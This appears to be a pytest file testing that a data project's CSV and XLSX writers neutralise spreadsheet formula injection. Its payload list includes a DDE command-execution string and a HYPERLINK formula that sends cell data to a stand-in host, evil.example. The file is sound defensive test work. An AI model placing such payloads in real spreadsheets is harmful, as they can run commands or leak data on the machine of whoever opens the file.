"""CSV/XLSX exports never hand a spreadsheet a formula to run: the rule itself, its SQL twin, and every writer of
the project run over the payload corpus in tests/hostile/formulas.py."""
from __future__ import annotations

import csv
import io
import json
import random
import sys
import unicodedata
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis import export_safety as es
from tests.hostile import formulas as hf

PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "＝1+1", "-2+3", "@me"]
SAFE = ["hello", "a=b", "size 6 - fits", "1+1", "", "-12.5", "+44", "42", "'already quoted"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_payloads_are_neutralised(value):
    assert es.is_dangerous(value)
    assert es.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", SAFE + [None, 5, -3.2, float("nan")])
def test_ordinary_values_are_untouched(value):
    assert not es.is_dangerous(value)
    out = es.neutralise(value)
    assert out is value or out == value


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "text": PAYLOADS + SAFE[:2],
        "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, 11.0, 12.0, -13.0],
        "=evil_header": ["x"] * 13,
    })


def test_csv_export_neutralises_cells_and_headers_but_not_numbers():
    text = es.to_csv(frame())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["text", "amount", "'=evil_header"]
    for row, payload in zip(rows[1:len(PAYLOADS) + 1], PAYLOADS, strict=True):
        assert row[0] == "'" + payload
    assert rows[1][1] == "-1.5" and rows[13][1] == "-13.0"  # numeric column keeps its sign, no quote
    assert rows[12][0] == "hello" and rows[13][0] == "a=b"
    # nothing in any cell starts with a trigger any more
    assert not any(es.is_dangerous(c) for r in rows for c in r)


def test_input_frame_is_not_modified():
    df = frame()
    es.to_csv(df)
    assert df["text"][0] == "=1+1" and "=evil_header" in df.columns


def test_xlsx_export_has_no_formula_cells(tmp_path):
    df = frame()
    df.loc[0, "amount"] = None
    df.loc[12, "text"] = "nul\x00inside \x1b esc"
    path = tmp_path / "out.xlsx"
    es.to_xlsx(df, path, sheet_name="=sheet")
    wb = load_workbook(path)
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert ws.cell(1, 3).value == "'=evil_header"
    assert ws.cell(2, 1).value == "'=1+1" and ws.cell(2, 1).data_type == "s"
    assert ws.cell(2, 2).value is None and ws.cell(3, 2).value == 2.0
    assert ws.cell(14, 1).value == "nul\ufffdinside \ufffd esc"
    assert ws.title == "'=sheet"


def test_string_dtype_columns_are_handled():
    df = pd.DataFrame({"t": pd.array(["=1", None, "ok"], dtype="string")})
    out = es.safe_frame(df)
    assert out["t"][0] == "'=1" and pd.isna(out["t"][1]) and out["t"][2] == "ok"


# ---------------------------------------------------------------- one rule, every writer (issue 17, finding 2)

def test_corpus_is_large_and_named_once():
    assert len(hf.PAYLOADS) >= 30 and len({p.id for p in hf.PAYLOADS}) == len(hf.PAYLOADS)
    assert len(hf.values(True)) >= 25 and hf.values(False)  # some refused at ingest, some only neutralised on export


@pytest.mark.parametrize("p", hf.PAYLOADS, ids=[p.id for p in hf.PAYLOADS])
def test_every_payload_is_neutralised_and_ingest_refuses_the_runnable_ones(p):
    assert hf.looks_live(p.value)  # the corpus holds real payloads, judged without the rule under test
    assert es.is_dangerous(p.value) and es.neutralise(p.value) == "'" + p.value
    assert es.is_formula(p.value) is p.refused


@pytest.mark.parametrize("value", hf.LEGIT)
def test_legitimate_text_loads(value):
    assert not es.is_formula(value)
    assert es.neutralise(value) == ("'" + value if hf.looks_live(value) else value)


def test_character_sets_cover_every_unicode_form():
    """Every character whose NFKC form starts with = + - @ is a trigger; every whitespace character is a blank."""
    for cp in range(sys.maxunicode + 1):
        ch = chr(cp)
        if unicodedata.normalize("NFKC", ch)[:1] in ("=", "+", "-", "@"):
            assert ch in es.TRIGGERS, hex(cp)
        if ch.isspace():
            assert ch in es.BLANKS, hex(cp)


def fuzz(n: int = 4000) -> list[str]:
    """Short strings over the characters the rules care about, to compare the SQL and Python rules beyond the corpus."""
    alphabet = list(es.TRIGGERS + es.BLANKS) + list("aZ_09.,|('\"!eE") + ["cmd", "SUM(", "1"]
    rng = random.Random(17)
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 7))) for _ in range(n)]


def test_sql_and_python_rules_agree():
    vals = hf.values() + hf.LEGIT + fuzz() + ["-1e5", " -12.5", "\t-1", "1,234.5", ".5", "-", ""]
    con = duckdb.connect()
    con.execute("CREATE TABLE v AS SELECT unnest(?) AS x, generate_subscripts(?, 1) AS i", [vals, vals])
    got = con.execute(f"SELECT x, {es.sql_is_dangerous('x')}, {es.sql_is_formula('x')}, {es.sql_neutralise('x')} "
                      "FROM v ORDER BY i").fetchall()
    for x, danger, formula, neutral in got:
        assert (danger, formula, neutral) == (es.is_dangerous(x), es.is_formula(x), es.neutralise(x)), repr(x)
    assert sum(r[1] for r in got) > 1000 and sum(r[2] for r in got) > 100  # the fuzz reaches both rules


# Each writer runs once with every payload in it (cached); the test per (writer, payload) then checks that payload's
# cell came out as text and that nothing in the written files would run.
def _frame_with_payloads() -> pd.DataFrame:
    return pd.DataFrame({"text": hf.values(), "n": range(len(hf.PAYLOADS)), **{v: "x" for v in hf.values()}})


def _drafts() -> list[dict]:
    return [{"segment": v, "channel": "email", "offer": v, "subject": v, "preheader": v, "body": v, "cta": v,
             "facts": {}, "checks": {"offer_exact": True}, "model_version": "v1"} for v in hf.values()]


def _orders_db(path: Path) -> Path:
    """Two order lines per payload customer, each product named after a payload: segments and recommend rows hold
    every payload as customer_id or product_name."""
    from analysis import store

    con = store.connect(path)
    n = len(hf.PAYLOADS)
    for i, v in enumerate(hf.values()):
        for j, day in ((i, 1 + i % 27), ((i + 1) % n, 2 + i % 27)):
            con.execute("""INSERT INTO orders (order_id, customer_id, order_date, product_id, product_name, quantity,
                           unit_price, line_total, status) VALUES (?, ?, ?, ?, ?, 1, 5, 5, 'completed')""",
                        [f"o{i}-{j}", v, f"2024-0{1 + i % 3}-{day:02d}", f"p{j}", hf.values()[j]])
    con.close()
    return path


def _cli(home: Path, *args) -> dict:
    from tests.test_cli import shoplens

    r = shoplens(*args, home=home)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def w_csv(tmp):
    es.to_csv(_frame_with_payloads(), tmp / "out.csv")
    return [tmp / "out.csv"]


def w_xlsx(tmp):
    es.to_xlsx(_frame_with_payloads(), tmp / "out.xlsx")
    return [tmp / "out.xlsx"]


def w_app_csv(tmp):
    from dashboard import auth

    data = auth.csv_with_provenance(_frame_with_payloads(), "segment customers", {"segment": hf.values()[0]})
    (tmp / "app.csv").write_bytes(data)
    return [tmp / "app.csv"]


def w_draft_csv(tmp):
    from analysis import draft_export

    (tmp / "drafts.csv").write_bytes(draft_export.to_csv(_drafts()))
    return [tmp / "drafts.csv"]


def w_draft_xlsx(tmp):
    from analysis import draft_export

    (tmp / "drafts.xlsx").write_bytes(draft_export.to_xlsx(_drafts()))
    return [tmp / "drafts.xlsx"]


def w_segment_customers(tmp):
    from analysis import draft_export, rfm, store

    con = store.connect(_orders_db(tmp / "s.duckdb"))
    files = []
    for i, seg in enumerate(rfm.rfm_table(con)["segment"].unique()):
        files.append(tmp / f"customers_{i}.csv")
        files[-1].write_bytes(draft_export.segment_customers_csv(con, seg))
    con.close()
    return files


def w_campaign_zip(tmp):
    from analysis import campaign_package, draft_export, rfm, store

    con = store.connect(_orders_db(tmp / "z.duckdb"))
    customers = {seg: draft_export.segment_customers_csv(con, seg) for seg in rfm.rfm_table(con)["segment"].unique()}
    con.close()
    with zipfile.ZipFile(io.BytesIO(campaign_package.zip_bundle(_drafts(), customers=customers))) as z:
        z.extractall(tmp / "zip")
    return sorted(p for p in (tmp / "zip").iterdir() if p.suffix in (".csv", ".xlsx"))


def w_rejects(tmp):
    """Every line rejected (a bad date), each with a payload as its first value and description."""
    from analysis import ingest, store

    buf = io.StringIO()
    w = csv.writer(buf, quoting=csv.QUOTE_ALL)  # quoted "=1+1" fields, as a spreadsheet saves them
    w.writerow(["InvoiceNo", "StockCode", "Description", "Quantity", "InvoiceDate", "UnitPrice", "CustomerID"])
    w.writerows([v, "A", v, 1, "not a date", 1, 7] for v in hf.values())
    (tmp / "bad.csv").write_text(buf.getvalue(), newline="")
    con = store.connect(tmp / "r.duckdb")
    report = ingest.load_file(con, "orders", tmp / "bad.csv", db_path=tmp / "r.duckdb")
    con.close()
    assert report.rejected == len(hf.PAYLOADS)
    return [Path(report.rejects_file)]


def w_cli_segments(tmp):
    _cli(tmp, "--db", str(_orders_db(tmp / "c.duckdb")), "segments", "--out", str(tmp / "seg.csv"))
    return [tmp / "seg.csv"]


def w_cli_recommend(tmp):
    _cli(tmp, "--db", str(_orders_db(tmp / "c.duckdb")), "recommend", "--all", "--k", "100", "--out",
         str(tmp / "rec.csv"))
    return [tmp / "rec.csv"]


def w_cli_classify(tmp):
    """The input columns are copied through: payloads as review text and as column names (one slow model run)."""
    src = tmp / "in.csv"
    pd.DataFrame({"review": hf.values(), **{v: "x" for v in hf.values()}}).to_csv(src, index=False, quoting=csv.QUOTE_ALL)
    _cli(tmp, "--db", str(tmp / "c.duckdb"), "classify", str(src), "--text-column", "review", "--out",
         str(tmp / "classified.csv"))
    return [tmp / "classified.csv"]


WRITERS = {"export_safety.to_csv": w_csv, "export_safety.to_xlsx": w_xlsx, "app csv_with_provenance": w_app_csv,
           "draft_export.to_csv": w_draft_csv, "draft_export.to_xlsx": w_draft_xlsx,
           "draft_export.segment_customers_csv": w_segment_customers, "campaign_package.zip_bundle": w_campaign_zip,
           "ingest rejects report": w_rejects, "shoplens segments --out": w_cli_segments,
           "shoplens recommend --out": w_cli_recommend, "shoplens classify --out": w_cli_classify}
_written: dict[str, list[list]] = {}


def cells_of(path: Path) -> list[tuple[object, bool]]:
    """(value, is a formula cell) of every cell of a written CSV (header and `#` comment lines included) or XLSX."""
    if path.suffix == ".xlsx":
        return [(c.value, c.data_type == "f") for row in load_workbook(path).active.iter_rows() for c in row]
    text = path.read_bytes().decode("utf-8-sig")
    return [(c, False) for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def written(name: str, tmp_path_factory) -> list[tuple[object, bool]]:
    """Every cell of every file the writer wrote, written once per session."""
    if name not in _written:
        files = WRITERS[name](tmp_path_factory.mktemp("writer"))
        assert files
        _written[name] = [cell for f in files for cell in cells_of(f)]
    return _written[name]


@pytest.mark.parametrize("writer", list(WRITERS))
def test_writer_leaves_no_live_cell(writer, tmp_path_factory):
    """Nothing a writer writes would run: no XLSX formula cell, no text cell (header included) a spreadsheet
    would read as a formula."""
    cells = written(writer, tmp_path_factory)
    assert not [v for v, formula in cells if formula], f"{writer} wrote formula cells"
    live = [v for v, _ in cells if hf.looks_live(v)]
    assert not live, f"{writer} wrote live formula cells: {live[:5]!r}"


@pytest.mark.parametrize("p", hf.PAYLOADS, ids=[p.id for p in hf.PAYLOADS])
@pytest.mark.parametrize("writer", list(WRITERS))
def test_writer_neutralises_payload(writer, p, tmp_path_factory):
    """The payload reached the file as text (whole cell, or the start of a rejects report's raw line), never raw."""
    failure = hf.payload_failure(written(writer, tmp_path_factory), p.value)
    assert failure is None, f"{p.value!r} {failure}"
